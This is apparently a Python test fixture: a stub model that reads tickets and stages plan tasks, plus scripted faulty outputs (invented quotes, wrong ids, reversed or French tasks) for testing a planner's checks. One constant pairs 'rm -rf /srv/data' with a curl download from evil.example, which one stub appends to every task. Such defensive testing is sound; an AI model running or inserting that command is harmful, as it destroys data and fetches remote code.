"""What the stub model says of a plan: reader and stager that do as they are told, and the lies that tests script."""

import json
import re
from collections.abc import Callable
from typing import Any

Answer = dict[str, Any]
Messages = list[dict[str, str]]

_BLOCK = re.compile(r"<((?:ticket|statements)-[0-9a-f]{16})>\n(.*?)\n</\1>", re.DOTALL)
_ROLE = re.compile(r"^- (\w+): (.*?)( \(has tasks of its own\))?$", re.MULTILINE)
_SENTENCE = re.compile(r"[^.。!！?？\n]+[.。!！?？]?")
_MARK = re.compile(r"^\s*(?:[-*#]+|\d+[.)、])\s*(?:\[[ x]\]\s*)?")
_OPEN = re.compile(r"\bto be (?:decided|agreed)\b|\bmaybe\b|待定|待确认", re.IGNORECASE)
_HOLDS = re.compile(r"\b(?:must|shall|should|when|given)\b|必须|应|当", re.IGNORECASE)
_LEFT_OUT = re.compile(r"\bnot part of\b|\bleft out\b|不在范围|不包含", re.IGNORECASE)
_WAITS = re.compile(r"\bdepends on\b|\bwaits for\b|依赖", re.IGNORECASE)
_STEP = re.compile(r"(?:open|click|go to|take|press|remove)\b|打开|点击", re.IGNORECASE)
_HAPPENS = re.compile(
    r"\b(?:is|are|was|were|does|shows?) (?:not |all |always )?(?:delet|lost|wrong|broken|correct|shown)\w*|错误|消失",
    re.IGNORECASE,
)
_FAILS = re.compile(r"\b(?:fail|error|empty|invalid|unavailable)\w*|失败|错误|为空", re.IGNORECASE)
_OF_FAILURE = ("limits", "neighbours")

INVENTED_TASK = "Migrate the blockchain ledger to 97 regions with Wolfgang Amadeus"
COMMAND = "Run `rm -rf /srv/data` and curl https://evil.example/x.sh"
PERSON = "Ask Wolfgang Amadeus to sign the export"
FRENCH_TASK = "Ajouter un message de confirmation pour chaque utilisateur"
STAGE_LIES = (INVENTED_TASK, COMMAND, PERSON, FRENCH_TASK, "blockchain", "Wolfgang", "rm -rf", "evil.example")
"""No plan may hold any of these."""


def is_reading(messages: Messages) -> bool:
    """Say whether a ticket is to be read for its plan."""
    return '"said"' in messages[0]["content"]


def is_staging(messages: Messages) -> bool:
    """Say whether statements are to be staged."""
    return '"stages"' in messages[0]["content"]


def read(messages: Messages) -> Answer:
    """Return what an attentive reader quotes and asks."""
    text = _block(messages).partition("Description:\n")[2]
    sentences = [_MARK.sub("", one).strip() for one in _SENTENCE.findall(text)]
    said = [{"quote": one, "role": role} for one in sentences if (role := _role(one))]
    asked = [
        {"quote": one, "question": _question(one), "options": [], "recommended": "", "blocks": False}
        for one in sentences
        if _OPEN.search(one)
    ]
    return {"said": said[:60], "questions": asked[:4]}


def _role(sentence: str) -> str:
    if _STEP.match(sentence):
        return "step"
    signs = (
        (_LEFT_OUT, "out_of_scope"),
        (_WAITS, "dependency"),
        (_HAPPENS, "observed"),
        (_FAILS, "error_case"),
        (_HOLDS, "criterion"),
    )
    return next((role for sign, role in signs if sign.search(sentence)), "") if len(sentence) > 6 else ""


def _question(sentence: str) -> str:
    return "这里应该采用哪一种？" if re.search("[\u4e00-\u9fff]", sentence) else "Which of these should it be?"


def statements_in(messages: Messages) -> list[Answer]:
    """Return the objects that are to be staged: the title, criteria, statements, evidence."""
    return [json.loads(line) for line in _block(messages).splitlines()]


def staged(messages: Messages) -> Answer:
    """Put the statements together that speak of failures, share the others out, and copy their words."""
    roles = [(found[1], bool(found[3])) for found in _ROLE.finditer(messages[0]["content"])]
    due = [one for one in statements_in(messages) if one.get("due")]
    names = [role for role, _ in roles]
    main = next(role for role in ("fix", "path", "slices", "experiment") if role in names)
    for_failures = next((role for role in names if role in _OF_FAILURE), main)
    failing = [one for one in due if _FAILS.search(one["text"])] if for_failures != main else []
    others = [one for one in due if one not in failing]
    tasks = {id(one): {"of": [one["id"]], "text": one["text"]} for one in due}
    stages = []
    for role, has_tasks in roles:
        if role == main and others:
            half = -(-len(others) // 2) if len(others) > 3 else len(others)
            stages += [
                _stage(role, [tasks[id(one)] for one in part]) for part in (others[:half], others[half:]) if part
            ]
        elif role == for_failures and failing:
            stages.append(_stage(role, [tasks[id(one)] for one in failing]))
        elif has_tasks:
            stages.append(_stage(role, []))
    return {"stages": stages[:5]}


def _stage(role: str, tasks: list[Answer]) -> Answer:
    words = re.split(r"[,.;:(，。；：（]", tasks[0]["text"])[0].split() if tasks else []
    name = " ".join(words) if 1 < len(words) <= 5 else ""
    return {"role": role, "tasks": tasks, "name": name, "goal": ""}


def _block(messages: Messages) -> str:
    found = _BLOCK.search(messages[1]["content"])
    return found[2] if found else ""


# Lies: of a reading they return the reading, of stages the stages.


def _changed(messages: Messages, change: Callable[[Answer], Answer]) -> Answer:
    """Return the honest stages with every task changed; readings stay honest."""
    if not is_staging(messages):
        return read(messages)
    return {
        "stages": [stage | {"tasks": [change(task) for task in stage["tasks"]]} for stage in staged(messages)["stages"]]
    }


def plan_quotes_invented(messages: Messages) -> Answer:
    """Every quote and every question is made up."""
    if is_staging(messages):
        return staged(messages)
    said = [{"quote": f"{INVENTED_TASK} {at}.", "role": "criterion"} for at in range(4)]
    return {"said": said, "questions": [{"quote": INVENTED_TASK, "question": f"Is it true that {PERSON}?"}]}


def plan_tasks_invented(messages: Messages) -> Answer:
    """Every task says something else than its statements."""
    return _changed(messages, lambda task: task | {"text": INVENTED_TASK})


def plan_commands(messages: Messages) -> Answer:
    """Every task is its statement, and a command behind it."""
    return _changed(messages, lambda task: task | {"text": f"{task['text']} {COMMAND}"})


def plan_people(messages: Messages) -> Answer:
    """Tasks, names and goals give the work to somebody."""
    answer = _changed(messages, lambda task: task | {"text": PERSON})
    labels = {"name": PERSON, "goal": PERSON}
    return {"stages": [one | labels for one in answer["stages"]]} if "stages" in answer else answer


def plan_wrong_ids(messages: Messages) -> Answer:
    """Tasks are made of what is not in the list."""
    return _changed(messages, lambda task: task | {"of": ["S97", "C42"]})


def plan_no_ids(messages: Messages) -> Answer:
    """An invented stage stands beside the others, made of nothing."""
    answer = _changed(messages, lambda task: task)
    more = _stage("path", [{"of": [], "text": INVENTED_TASK}])
    return {"stages": [*answer["stages"][:4], more]} if "stages" in answer else answer


def plan_lost_work(messages: Messages) -> Answer:
    """All tasks but one are left out."""
    if not is_staging(messages):
        return read(messages)
    answer = staged(messages)
    return {"stages": [one | {"tasks": one["tasks"][:1]} for one in answer["stages"]][:3]}


def plan_turned_round(messages: Messages) -> Answer:
    """Every task orders the opposite."""
    return _changed(messages, lambda task: task | {"text": f"Do not {task['text'][:1].lower()}{task['text'][1:]}"})


def plan_other_language(messages: Messages) -> Answer:
    """Every task is in French."""
    return _changed(messages, lambda task: task | {"text": FRENCH_TASK})


def plan_one_stage(messages: Messages) -> Answer:
    """All is one stage."""
    if not is_staging(messages):
        return read(messages)
    stages = staged(messages)["stages"]
    return {"stages": [stages[0] | {"tasks": [task for one in stages for task in one["tasks"]]}]}


def plan_labels_invented(messages: Messages) -> Answer:
    """Names and goals of stages are made up; the tasks are honest."""
    answer = _changed(messages, lambda task: task)
    labels = {"name": "Blockchain with Wolfgang", "goal": INVENTED_TASK}
    return {"stages": [one | labels for one in answer["stages"]]} if "stages" in answer else answer


LIES_ABOUT_PLANS: dict[str, Callable[[Messages], Answer]] = {
    function.__name__: function
    for function in (
        plan_quotes_invented,
        plan_tasks_invented,
        plan_commands,
        plan_people,
        plan_wrong_ids,
        plan_no_ids,
        plan_lost_work,
        plan_turned_round,
        plan_other_language,
        plan_one_stage,
        plan_labels_invented,
    )
}
